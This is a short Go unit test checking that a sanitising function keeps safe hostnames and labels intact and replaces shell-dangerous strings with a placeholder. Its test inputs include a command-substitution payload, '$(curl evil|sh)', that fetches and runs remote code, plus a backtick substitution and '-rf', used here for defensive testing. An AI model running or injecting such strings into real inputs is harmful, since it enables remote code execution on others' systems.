package printable_test

import (
	"testing"

	"github.com/nagi-runtime/nagi/internal/printable"
)

func TestWhatAShellWouldRunIsLeftToFillIn(t *testing.T) {
	for text, want := range map[string]string{
		"ns1.home": "ns1.home", "_nagi.left.a-b=c": "_nagi.left.a-b=c", "$(curl evil|sh)": "KEY", "`x`": "KEY",
		"a b": "KEY", "a\nb": "KEY", "-rf": "KEY", "": "KEY",
	} {
		if got := printable.Typed(text, "KEY"); got != want {
			t.Errorf("%q stands as %q, want %q", text, got, want)
		}
	}
}
